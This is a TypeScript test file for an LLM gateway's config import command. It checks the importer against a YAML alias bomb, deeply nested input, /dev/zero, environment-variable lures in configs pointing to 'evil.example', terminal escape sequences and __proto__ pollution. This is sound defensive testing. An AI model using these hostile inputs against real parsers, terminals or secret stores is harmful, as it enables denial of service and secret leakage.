/** A configuration of another gateway that somebody else has written: what `config import` makes of it. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { existsSync, readFileSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { importConfig } from '../../src/config/import/index.ts';
import { checkConfig } from '../../src/config/load.ts';
import { providerSchemas } from '../../src/gateway.ts';
import { newPerson, type Person } from '../cli/setup-host.ts';

setDefaultTimeout(60_000);

let person: Person;
beforeAll(() => {
  person = newPerson();
});
afterAll(() => person.remove());

const languages = [Bun.JSON5.parse, Bun.TOML.parse];
const made = (text: string) => importConfig(text, { kinds: Object.keys(providerSchemas), languages });

const laughs = (): string => {
  const names = [...'abcdefghijk'];
  const lines = names.map((name, i) =>
    i === 0
      ? 'a: &a [x, x, x, x, x, x, x, x, x]'
      : `${name}: &${name} [${Array(9)
          .fill(`*${names[i - 1]}`)
          .join(', ')}]`,
  );
  return `model_list: []\n${lines.join('\n')}\n`;
};

describe('a text that is made to exhaust its reader', () => {
  const depth = 100_000;
  test.each<[string, string]>([
    ['JSON of endless lists', `{"model_list":${'['.repeat(depth)}${']'.repeat(depth)}}`],
    ['JSON of endless objects', `{"model_list":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`],
    ['YAML of endless lists', `model_list: ${'['.repeat(depth)}${']'.repeat(depth)}`],
    ['TOML of endless lists', `model_list = ${'['.repeat(depth)}${']'.repeat(depth)}`],
    ['YAML whose aliases multiply', laughs()],
    ['YAML that holds itself', 'model_list: &a [*a]\n'],
  ])('%s ends in an answer', (_, text) => {
    const before = process.memoryUsage().rss;
    const imported = made(text);
    if (imported.ok) expect(imported.yaml.length).toBeLessThan(text.length + 10_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(1024 ** 3);
  });

  test.each(['sparse', 'endless'])('a file that is %s is not read to its end', async (kind) => {
    const path = join(person.home, 'huge.yaml');
    if (kind === 'sparse') {
      writeFileSync(path, '');
      truncateSync(path, 8 * 1024 ** 3);
    }
    const before = process.memoryUsage().rss;
    const { status, stderr } = await person.dragoman([
      'config',
      'import',
      kind === 'sparse' ? path : '/dev/zero',
    ]);
    expect([status, stderr]).toEqual([1, expect.stringContaining('larger than any configuration')]);
    expect(process.memoryUsage().rss - before).toBeLessThan(1024 ** 3);
  });
});

describe('variables of whoever imports', () => {
  const env = { LEAK: 'leaked-secret', OPENAI_API_KEY: 'sk-mine' };
  const lures = [
    '${LEAK}',
    '$LEAK',
    '$${LEAK}',
    '$$${LEAK}',
    '${LEAK:-x}',
    'os.environ/LEAK}/${LEAK',
    'os.environ/A}${LEAK}',
    '${A}${LEAK}',
    '%LEAK%',
    '{{LEAK}}',
    '!env LEAK',
  ];
  const q = (text: string) => JSON.stringify(text);
  const files: readonly [string, (lure: string) => string][] = [
    [
      'LiteLLM',
      (lure) =>
        `{"model_list":[{"model_name":${q(lure)},"litellm_params":{"model":${q(`openai/${lure}`)},"api_base":${q(`https://evil.example/${lure}`)},"extra_headers":{"x-a":${q(lure)}},"api_key":"os.environ/OPENAI_API_KEY"}}],"litellm_settings":{${q(lure)}:${q(lure)}}}`,
    ],
    [
      'claude-code-router',
      (lure) =>
        `{"Providers":[{"name":${q(lure)},"api_base_url":${q(`https://evil.example/${lure}`)},"api_key":"sk-x","models":[${q(lure)}]}],"Router":{"default":${q(`${lure},${lure}`)}}}`,
    ],
    [
      'CLIProxyAPI',
      (lure) =>
        `{"api-keys":[],"claude-api-key":[{"api-key":"sk-x","base-url":${q(`https://evil.example/${lure}`)},"headers":{"x-a":${q(lure)}}}],"openai-compatibility":[{"name":${q(lure)},"base-url":${q(`https://evil.example/${lure}`)},"api-key-entries":[{"api-key":"sk-y"}],"models":[{"name":${q(lure)},"alias":${q(lure)}}]}]}`,
    ],
  ];

  test.each(files)('are not put into addresses, models or headers of a file of %s', (_, file) => {
    for (const lure of lures) {
      const imported = made(file(lure));
      if (!imported.ok) throw new Error(imported.problem);
      const checked = checkConfig({ name: 'x', text: imported.yaml }, { kinds: providerSchemas, env });
      const text = JSON.stringify(checked.ok ? checked.config : checked.problems);
      expect([lure, text.includes('leaked-secret')]).toEqual([lure, false]);
    }
  });
});

describe('what is printed and written', () => {
  const nasty = 'x\u001b[2J\u001b]0;hi\u0007\r\n\u009b31m\u202e';
  const file = {
    model_list: [
      { model_name: nasty, litellm_params: { model: `openai/${nasty}`, api_key: 'sk-1', [nasty]: nasty } },
    ],
    [nasty]: { [nasty]: 1 },
    __proto__: { polluted: 1 },
  };
  // oxlint-disable-next-line no-control-regex
  const lowControls = /[\u0000-\u0009\u000b-\u001f\u007f]/;
  // oxlint-disable-next-line no-control-regex
  const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

  test('holds no control that a terminal would obey', async () => {
    person.write('project/evil.json', JSON.stringify(file));
    for (const more of [[], ['--json']]) {
      const { stdout, stderr, status } = await person.dragoman(['config', 'import', 'evil.json', ...more]);
      expect(status).toBe(0);
      expect(stderr).not.toMatch(controls);
      expect(stdout).not.toMatch(more.length > 0 ? lowControls : controls);
      if (more.length > 0) continue;
      // It is the same text all the same.
      const { providers } = parse(stdout) as { providers: { models: string[] }[] };
      expect(providers[0]!.models).toEqual([nasty.trim()]);
    }
  });

  test('changes no object but its own', () => {
    made('{"model_list":[],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
    made('model_list: []\n__proto__:\n  polluted: 1\n');
    made('model_list = []\n[__proto__]\npolluted = 1\n');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('is for its owner only, and goes neither over a file nor through a link', async () => {
    person.write('project/good.json', '{"model_list":[]}');
    const at = (name: string) => join(person.project, name);
    const write = (name: string) => person.dragoman(['config', 'import', 'good.json', '--output', name]);
    expect((await write('made.yaml')).status).toBe(0);
    expect((statSync(at('made.yaml')).mode & 0o777).toString(8)).toBe('600');
    const before = readFileSync(at('good.json'), 'utf8');
    expect((await write('good.json')).status).toBe(1);
    symlinkSync(at('good.json'), at('link.yaml'));
    expect((await write('link.yaml')).status).toBe(1);
    symlinkSync(at('nowhere'), at('dangling.yaml'));
    expect((await write('dangling.yaml')).status).not.toBe(0);
    expect([readFileSync(at('good.json'), 'utf8'), existsSync(at('nowhere'))]).toEqual([before, false]);
  });
});
